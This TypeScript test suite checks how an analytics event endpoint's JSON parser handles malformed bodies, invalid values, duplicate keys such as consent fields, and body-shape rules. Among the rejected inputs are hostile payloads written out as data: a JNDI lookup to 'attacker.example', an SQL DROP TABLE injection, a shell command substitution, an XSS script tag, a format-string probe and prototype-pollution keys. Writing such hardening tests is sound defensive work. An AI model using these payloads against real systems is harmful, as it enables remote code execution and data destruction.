import { betweenNeighbours, pageView, rawMark, withRaw } from './event-json.ts';
import { type EventOutcome, eachOutcome, type HostileCase, refused } from './hostile-case.ts';

const event = JSON.stringify(pageView(2));

/** Bodies that are no JSON, whatever they look like. */
const noJson: Readonly<Record<string, string>> = {
  'an empty body': '',
  'blanks only': ' \t\r\n ',
  'a lone brace': '{',
  'a lone bracket': '[',
  'a closing brace': '}',
  'an event cut off': event.slice(0, -1),
  'an event cut off in a string': event.slice(0, 20),
  'two events': event + event,
  'two events on two lines': `${event}\n${event}`,
  'a comma after it': `${event},`,
  'text after it': `${event} x`,
  'text before it': `x ${event}`,
  'an XSSI prefix': `)]}',\n${event}`,
  'a call around it': `callback(${event})`,
  'parentheses around it': `(${event})`,
  'an assignment': `var e = ${event};`,
  'a form field': `data=${encodeURIComponent(event)}`,
  'percent-encoded': encodeURIComponent(event),
  'base64 of it': Buffer.from(event).toString('base64'),
  'a comment before it': `// x\n${event}`,
  'a comment after it': `${event} /* x */`,
  'a hash comment': `# x\n${event}`,
  XML: '<event><event_id>1</event_id></event>',
  HTML: '<!doctype html><script>alert(1)</script>',
  YAML: 'event_type: page_view\nts: now',
  CSV: 'event_type,ts\npage_view,now',
  SQL: "'; DROP TABLE events; --",
  'a format string': '%s%s%s%n',
  'a template': `\${jndi:ldap://attacker.example/x}`,
  'a shell command': '$(touch x)',
  'True of Python': 'True',
  None: 'None',
  undefined: 'undefined',
  NaN: 'NaN',
  Infinity: 'Infinity',
  '-Infinity': '-Infinity',
  'a hexadecimal number': '0x10',
  'an octal number': '017',
  'a leading plus': '+1',
  'a leading dot': '.5',
  'a trailing dot': '5.',
  'a bigint': '1n',
  'grouped digits': '1_000',
  'a regular expression': '/x/',
  'a template literal': '`x`',
  'a single-quoted string': "'x'",
  'a no-break space before it': `\u00a0${event}`,
  'a line separator before it': `\u2028${event}`,
  'a NUL after it': `${event}\u0000`,
  'a vertical tab before it': `\v${event}`,
  'a form feed before it': `\f${event}`,
};

/** Values that are no JSON, in an event that otherwise is one. */
const badValues: Readonly<Record<string, string>> = {
  NaN: 'NaN',
  Infinity: 'Infinity',
  '-Infinity': '-Infinity',
  undefined: 'undefined',
  True: 'True',
  nothing: '',
  'a hexadecimal number': '0x1F',
  'a binary number': '0b1',
  'an octal number': '0o7',
  'a leading zero': '01',
  'a negative leading zero': '-01',
  'two zeros': '00',
  'a plus': '+1',
  'a lone minus': '-',
  'two minuses': '--1',
  'no digit before the dot': '.5',
  'no digit after the dot': '1.',
  'no digit after the e': '1e',
  'a plus without digits': '1e+',
  'a fraction in the exponent': '1e1.5',
  'two dots': '1.2.3',
  'grouped digits': '1_000',
  'a decimal comma': '1,5',
  'a bigint': '1n',
  'Arabic digits': '١٢',
  'fullwidth digits': '１２',
  'a single-quoted string': "'x'",
  'a typographic quote': '“x”',
  'a string that does not end': '"x',
  'a string of two': '"x" "y"',
  'strings with a plus': '"x"+"y"',
  'a line end in a string': '"x\ny"',
  'a carriage return in a string': '"x\ry"',
  'a tab in a string': '"x\ty"',
  'a NUL in a string': '"x\u0000y"',
  'an escape character in a string': '"x\u001by"',
  'a unit separator in a string': '"x\u001fy"',
  'a hexadecimal escape': '"\\x41"',
  'an octal escape': '"\\101"',
  'an escaped quote of another kind': '"\\\'"',
  'an escaped line end': '"x\\\ny"',
  'a code point escape': '"\\u{41}"',
  'half an escape': '"\\u00"',
  'an escape of three digits': '"\\u041"',
  'an escape that is no hexadecimal': '"\\u00gg"',
  'a capital U escape': '"\\U00000041"',
  'a lone backslash': '"\\"',
  'an object cut off': '{"a":1',
  'a comma after the last member': '{"a":1,}',
  'a comma before the first member': '{,"a":1}',
  'two commas': '{"a":1,,"b":2}',
  'no comma': '{"a":1 "b":2}',
  'a semicolon': '{"a":1;"b":2}',
  'no colon': '{"a" 1}',
  'two colons': '{"a"::1}',
  'an equals sign': '{"a"=1}',
  'no value': '{"a":}',
  'no key': '{:1}',
  'a key without quotes': '{a:1}',
  'a key in single quotes': "{'a':1}",
  'a number for a key': '{1:1}',
  'null for a key': '{null:1}',
  'a list for a key': '{[1]:1}',
  'a spread': '{...a}',
  'a shorthand': '{a}',
  'a getter': '{get a(){return 1}}',
  'a function': 'function(){}',
  'a comment': '1 /* x */',
  'a line comment': '1 // x\n',
  'a comma after the last entry': '[1,]',
  'a comma before the first entry': '[,1]',
  'a hole': '[1,,2]',
  'a list that an object ends': '[1}',
  'an object that a list ends': '{"a":1]',
  'a byte order mark': '\ufeff1',
  'a no-break space': '\u00a01',
};

/** A member text at the end of an event: what stands there last holds. */
const duplicates: Readonly<Record<string, readonly [text: string, EventOutcome, HostileCase['stored']?]>> = {
  'ts, the last is valid': [
    '"ts":"never","ts":"2026-11-21T10:20:31Z"',
    'accepted',
    { '/ts': '2026-11-21T10:20:31.000Z' },
  ],
  'ts, the last is not': ['"ts":"2026-11-21T10:20:31Z","ts":"never"', 'schema-invalid'],
  'event_type, the last is unknown': ['"event_type":"page_load"', 'schema-unknown'],
  'event_id, the last is none': ['"event_id":"none"', 'schema-invalid'],
  'consent, the last denies': ['"user":{"consent":{"analytics":false,"ads":false}}', 'suppressed'],
  'consent, the last cannot be read': ['"user":{"consent":{"analytics":"true","ads":false}}', 'consent-unreadable'],
  'consent, the last is missing': ['"user":{}', 'consent-unreadable'],
  'analytics, the last denies': ['"user":{"consent":{"analytics":true,"ads":false,"analytics":false}}', 'suppressed'],
  'analytics, the last allows': ['"user":{"consent":{"analytics":false,"ads":false,"analytics":true}}', 'accepted'],
  'ads, the last allows': [
    '"user":{"consent":{"analytics":true,"ads":false,"ads":true}}',
    'accepted',
    { '/privacy/ads': true },
  ],
  'ctx, the last has no page': ['"ctx":{}', 'schema-invalid'],
  'page_url, the last is a number': ['"ctx":{"page_url":"/a","page_url":1}', 'schema-invalid'],
  'page_url, the last is a text': ['"ctx":{"page_url":1,"page_url":"/a"}', 'accepted', { '/ctx/page_url': '/a' }],
  'a custom property': ['"custom_properties":{"a":1,"a":2}', 'accepted', { '/custom_properties/a': 2 }],
  'a custom property, escaped the second time': [
    '"custom_properties":{"ab":1,"\\u0061b":2}',
    'accepted',
    { '/custom_properties/ab': 2 },
  ],
  'schema_version, the last has no contract': ['"schema_version":"2.0.0"', 'schema-unknown'],
};

const duplicateKeys = Object.entries(duplicates).flatMap(([name, [text, outcome, stored]]) => {
  const twice = withRaw({ ...pageView(2), [rawMark]: rawMark }, text);
  const more = stored ? { stored } : {};
  return [
    eachOutcome(`duplicate ${name}`, { body: twice }, [outcome], more),
    eachOutcome(`duplicate ${name}, between neighbours`, { body: betweenNeighbours(twice) }, [
      'accepted',
      outcome,
      'accepted',
    ]),
  ];
});

const scalars = ['null', 'true', 'false', '0', '-1', '1.5', '1e400', '""', '"page_view"', '[]', '[1]', '[[]]'];

/** What surrounds the events. */
const wholes: readonly HostileCase[] = [
  ...scalars
    .filter((json) => !json.startsWith('['))
    .map((json) => eachOutcome(`a body that is only ${json}`, { body: json }, ['not-an-event'])),
  ...scalars.map((json) =>
    eachOutcome(`${json} between neighbours`, { body: betweenNeighbours(json) }, [
      'accepted',
      'not-an-event',
      'accepted',
    ]),
  ),
  eachOutcome('a list of everything that is no event', { body: `[${scalars.join(',')}]` }, [
    ...scalars.map((): EventOutcome => 'not-an-event'),
  ]),
  eachOutcome('an event in a text, between neighbours', { body: betweenNeighbours(JSON.stringify(event)) }, [
    'accepted',
    'not-an-event',
    'accepted',
  ]),
  eachOutcome('an empty object', { body: '{}' }, ['consent-unreadable']),
  eachOutcome('blanks around an event', { body: ` \t\r\n${event}\n ` }, ['accepted']),
  eachOutcome('Events with a capital is an event', { body: `{"Events":[${event}]}` }, ['consent-unreadable']),
  eachOutcome('an escaped key events', { body: `{"\\u0065vents":[${event}]}` }, ['accepted']),
  eachOutcome('duplicate events, the last is valid', { body: `{"events":1,"events":[${event}]}` }, ['accepted']),
  refused('duplicate events, the last is none', { body: `{"events":[${event}],"events":1}` }, 400),
  refused('duplicate events, the last is empty', { body: `{"events":[${event}],"events":[]}` }, 400),
  ...['[]', '{"events":[]}'].map((body) => refused(`no event: ${body}`, { body }, 400)),
  ...['null', 'true', '1', '"x"', '{}', `{"0":${event}}`, `{"length":1,"0":${event}}`].map((json) =>
    refused(`events is ${json}`.slice(0, 60), { body: `{"events":${json}}` }, 400),
  ),
  ...['event', 'Events', 'data', 'batch', 'constructor', '__proto__', 'prototype', 'toString', ''].map((key) =>
    refused(`the key "${key}" beside events`, { body: `{"events":[${event}],"${key}":1}` }, 400),
  ),
  ...['{}', 'null', '[]', '"x"', '{"source":"x"}', '{"source":"x","policy":"y"}'].map((json) =>
    refused(`import ${json} with a public key`, { body: `{"events":[${event}],"import":${json}}` }, 403),
  ),
  ...['[]', '[{}]', '[{"quarantine_id":"x","line_number":1,"text":"x"}]'].map((json) =>
    refused(`malformed ${json} with a public key`, { body: `{"events":[${event}],"malformed":${json}}` }, 403),
  ),
];

/** JSON that is none, duplicate keys, and what a body may be. */
export const jsonGrammar: readonly HostileCase[] = [
  ...Object.entries(noJson).map(([name, body]) => refused(`no JSON: ${name}`, { body }, 400)),
  ...Object.entries(badValues).flatMap(([name, text]) => {
    const bad = withRaw(pageView(2, { custom_properties: { a: rawMark } }), text);
    return [
      refused(`no JSON: ${name} as a value`, { body: bad }, 400),
      refused(`no JSON: ${name} as a value, between neighbours`, { body: betweenNeighbours(bad) }, 400),
    ];
  }),
  ...duplicateKeys,
  ...wholes,
];
